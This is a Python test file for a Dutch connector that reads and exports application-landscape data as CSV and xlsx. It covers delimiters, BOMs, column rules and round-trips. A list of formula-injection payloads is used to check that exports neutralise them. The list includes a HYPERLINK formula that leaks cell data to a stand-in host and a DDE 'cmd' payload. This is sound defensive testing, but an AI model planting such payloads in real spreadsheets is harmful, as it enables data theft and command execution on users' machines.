"""CSV and xlsx files: delimiter and BOM detection, spreadsheet row numbers, column rules."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from connectors.base import RecordRejected, SourceRefused
from connectors.landschap import Landschap
from connectors.tabular.columns import header_index, list_fields, row_object
from connectors.tabular.export import export_gebruik_csv, export_gebruik_xlsx, template_csv, template_xlsx
from connectors.tabular.reader import cell_text, detect_delimiter, read_csv, read_xlsx
from schemas.landscape import Gebruik, validate_landscape_data, vastgelegd_type


def test_semicolons_are_detected_outside_quotes() -> None:
    assert detect_delimiter("id;naam;type\r\n") == ";"
    assert detect_delimiter('id,"naam;met;puntkomma",type\n') == ","


def test_a_bom_and_semicolons_read_as_dutch_excel_writes_them(tmp_path: Path) -> None:
    path = tmp_path / "g.csv"
    path.write_bytes('\ufeffid;naam\r\na-1;Zaaksysteem\r\n\r\na-2;"DMS; archief"\r\n'.encode())

    rows = list(read_csv(path))

    assert rows == [(1, ["id", "naam"]), (2, ["a-1", "Zaaksysteem"]), (4, ["a-2", "DMS; archief"])]


def test_a_file_that_is_not_utf8_is_refused_with_the_byte_offset(tmp_path: Path) -> None:
    path = tmp_path / "latin1.csv"
    path.write_bytes("id,naam\na,Café\n".encode("latin-1"))

    with pytest.raises(SourceRefused, match="not UTF-8"):
        list(read_csv(path))


def test_xlsx_reads_the_first_or_a_named_sheet_with_spreadsheet_row_numbers(tmp_path: Path) -> None:
    book = Workbook()
    first = book.active
    assert first is not None
    first.title = "eerste"
    first.append(["id", "naam"])
    first.append(["a-1", "Zaaksysteem"])
    second = book.create_sheet("tweede")
    second.append(["id", "versie"])
    second.append([None, None])
    second.append([42.0, dt.datetime(2026, 1, 31)])
    path = tmp_path / "b.xlsx"
    book.save(path)

    assert list(read_xlsx(path)) == [(1, ["id", "naam"]), (2, ["a-1", "Zaaksysteem"])]
    assert list(read_xlsx(path, "tweede")) == [(1, ["id", "versie"]), (3, ["42", "2026-01-31"])]
    with pytest.raises(SourceRefused, match="no sheet 'derde'"):
        list(read_xlsx(path, "derde"))


def test_a_file_that_is_not_xlsx_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "x.xlsx"
    path.write_text("id,naam\n")
    with pytest.raises(SourceRefused, match="not an xlsx workbook"):
        list(read_xlsx(path))


def test_cells_become_text_as_a_person_typed_them() -> None:
    assert cell_text(3.0) == "3" and cell_text(3.5) == "3.5" and cell_text(True) == "true"
    assert cell_text(None) is None


def test_unknown_and_missing_columns_are_refused_naming_them() -> None:
    with pytest.raises(SourceRefused, match=r"1 unknown column\(s\), at position\(s\) 3, for applicatie"):
        header_index("applicatie", ["id", "naam", "kleur"])
    with pytest.raises(SourceRefused, match=r"\['applicatie', 'status'\]"):
        header_index("gebruik", ["id"])
    with pytest.raises(SourceRefused, match="more than once"):
        header_index("applicatie", ["id", "naam", "naam"])


def test_a_row_becomes_an_object_with_list_fields_split_and_the_owner_filled_in() -> None:
    index = header_index("gebruik", ["id", "applicatie", "status", "referentiecomponenten", "versie"])
    obj = row_object(
        "gebruik", index, list_fields("gebruik"), ["g-1", "a-1", "Gepland", "rc-2| rc-1 |", ""], "org-1"
    )

    assert obj == Gebruik(
        id="g-1", afnemer="org-1", applicatie="a-1", status="Gepland", referentiecomponenten=["rc-1", "rc-2"]
    )


def test_every_bad_column_of_a_row_is_named() -> None:
    index = header_index("koppeling", ["id", "applicatieA", "type", "richting"])
    with pytest.raises(RecordRejected) as caught:
        row_object("koppeling", index, list_fields("koppeling"), ["k-1", "a-1", "ftp", "AnaarC"], "org-1")

    assert {column for column, _ in caught.value.problems} == {"type", "richting", "applicatieB"}


def test_templates_carry_every_column_and_an_example(tmp_path: Path) -> None:
    lines = template_csv("gebruik").decode("utf-8-sig").splitlines()
    assert lines[0] == "id,afnemer,applicatie,status,versie,referentiecomponenten,interneAantekening"
    assert "In productie" in lines[1]
    path = tmp_path / "t.xlsx"
    path.write_bytes(template_xlsx("applicatie"))
    assert [c.value for c in next(load_workbook(path).active.iter_rows())] == [  # type: ignore[union-attr]
        "id",
        "naam",
        "aanbieder",
        "type",
        "licentietype",
        "referentiecomponenten",
        "licentie",
        "beschrijving",
        "versie",
        "ontwikkelstatus",
        "website",
        "broncode",
    ]


def test_the_gebruik_export_reads_back_as_the_same_objects(tmp_path: Path) -> None:
    gebruik = [
        Gebruik(id="g-2", afnemer="org-1", applicatie="a-2", status="Uitgefaseerd"),
        Gebruik(
            id="g-1",
            afnemer="org-1",
            applicatie="a-1",
            status="In productie",
            versie="1.2",
            referentiecomponenten=["rc-1", "rc-2"],
            interneAantekening="eigen notitie, met komma",
        ),
    ]
    landschap = Landschap("org-1", gebruik=gebruik)
    for name, body, reader in (
        ("g.csv", export_gebruik_csv(landschap), read_csv),
        ("g.xlsx", export_gebruik_xlsx(landschap), read_xlsx),
    ):
        path = tmp_path / name
        path.write_bytes(body)
        rows = list(reader(path))
        index = header_index("gebruik", rows[0][1])
        back = [row_object("gebruik", index, list_fields("gebruik"), cells, "org-1") for _, cells in rows[1:]]
        assert back == sorted(gebruik, key=lambda g: g.id), name


def test_an_unknown_header_is_refused_without_quoting_it() -> None:
    # A header read from a URL may be the first line of an internal page: the error, which
    # ends up in the connector's lastError, must not carry it back.
    marker = "SECRET-4f2a9c"
    with pytest.raises(SourceRefused) as refused:
        header_index("applicatie", ["id", f"<title>{marker}</title>", "naam", "x"])
    assert marker not in str(refused.value)
    assert "2 unknown column(s), at position(s) 2, 4" in str(refused.value)


_ATTACKS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "'=al gequote",
    "'t Hooft",
]


def _attacked(tmp_path: Path) -> list[Gebruik]:
    return [
        Gebruik(
            id=f"g-{i}",
            afnemer="org-1",
            applicatie="a-1",
            status="In productie",
            versie="=1+1",
            interneAantekening=attack,
        )
        for i, attack in enumerate(_ATTACKS)
    ]


def test_a_csv_export_has_no_cell_a_spreadsheet_reads_as_a_formula(tmp_path: Path) -> None:
    import csv
    import io

    body = export_gebruik_csv(Landschap("org-1", gebruik=_attacked(tmp_path))).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body, newline="")) for cell in row]
    assert cells, "the export is empty"
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    assert "'=HYPERLINK(" in body


def test_an_xlsx_export_reopened_by_openpyxl_has_no_formula_cells(tmp_path: Path) -> None:
    path = tmp_path / "g.xlsx"
    gebruik = _attacked(tmp_path)
    path.write_bytes(export_gebruik_xlsx(Landschap("org-1", gebruik=gebruik)))
    sheet = load_workbook(path).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    notes = [row[6] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert notes == [g.interneAantekening for g in sorted(gebruik, key=lambda g: g.id)]


def test_a_neutralised_csv_export_reads_back_cell_for_cell(tmp_path: Path) -> None:
    gebruik = _attacked(tmp_path)
    path = tmp_path / "g.csv"
    path.write_bytes(export_gebruik_csv(Landschap("org-1", gebruik=gebruik)))
    notes = [cells[6] for _, cells in list(read_csv(path))[1:]]
    assert notes == [g.interneAantekening for g in sorted(gebruik, key=lambda g: g.id)]
    versies = {cells[4] for _, cells in list(read_csv(path))[1:]}
    assert versies == {"=1+1"}


def test_a_quote_a_person_typed_in_a_csv_is_kept(tmp_path: Path) -> None:
    path = tmp_path / "typed.csv"
    path.write_text("id,naam\r\na-1,'t Hooft\r\n", encoding="utf-8")
    assert [cells[1] for _, cells in list(read_csv(path))[1:]] == ["'t Hooft"]


def test_a_rows_fingerprint_is_the_digest_earlier_imports_stored(tmp_path: Path) -> None:
    """Fingerprints are kept in PostgreSQL between imports: a faster way to compute them must give
    the same digest (trimmed cells joined by US, after the organisation and header), or every row
    of the next import would be published again. Cells with spaces, and an empty xlsx cell."""
    import hashlib

    from connectors.base import ConnectorContext, Record
    from connectors.kinds import KINDS  # noqa: F401 - registers the csv kind (alone, this file did not)
    from connectors.registry import create

    ctx = ConnectorContext(organisatie="org-1", scope="s", work_dir=tmp_path, file_roots=(tmp_path,))
    connector = create("csv", {"location": str(tmp_path / "g.csv"), "objecttype": "gebruik"}, ctx)
    index = header_index("gebruik", ["id", "afnemer", "applicatie", "status", "versie"])
    signature = "\x1f".join(["org-1", *index])
    shared = {"index": index, "signature": signature}
    for cells in (["  g-1 ", "org-1", " app-1", "Gepland ", ""], ["g-2", None, "app-2", "Gepland", None]):
        text = "\x1f".join([(c or "").strip() for c in cells])
        expected = hashlib.sha256(f"{signature}\x1e{text}".encode()).hexdigest()[:32]
        assert connector.fingerprint(Record({"shared": shared, "cells": cells}, 2)) == (
            "gebruik",
            str(cells[0]).strip(),
            expected,
        )


def test_an_xlsx_export_writes_characters_xml_cannot_hold_as_replacement_characters(tmp_path: Path) -> None:
    stored = [
        validate_landscape_data(
            vastgelegd_type("gebruik"),
            {"id": f"g-{i}", "afnemer": "org-1", "applicatie": "a-1", "status": "Gepland", **fields},
        )
        for i, fields in enumerate(
            [
                {"interneAantekening": "regel 1\x0bregel 2"},  # a vertical tab, as Word pastes it
                {"interneAantekening": "a\x00b"},
                {"versie": "1.0\ufffe"},
            ]
        )
    ]
    path = tmp_path / "g.xlsx"

    path.write_bytes(export_gebruik_xlsx(Landschap("org-1", gebruik=stored)))  # type: ignore[arg-type]

    sheet = load_workbook(path).active
    assert sheet is not None
    rows = [(row[4], row[6]) for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert rows == [(None, "regel 1\ufffdregel 2"), (None, "a\ufffdb"), ("1.0\ufffd", None)]
